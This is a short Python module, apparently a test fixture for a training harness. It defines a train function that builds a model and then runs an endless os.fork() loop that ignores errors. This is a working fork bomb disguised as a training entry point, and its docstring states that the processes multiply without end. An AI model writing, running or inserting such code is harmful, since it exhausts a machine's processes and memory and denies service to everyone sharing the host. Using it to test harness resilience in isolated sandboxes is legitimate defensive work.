"""Forks, and its children fork, and none of them ever gives up."""

import os


def train(ctx):
    ctx.build_model()
    while True:
        try:
            os.fork()
        except OSError:
            pass
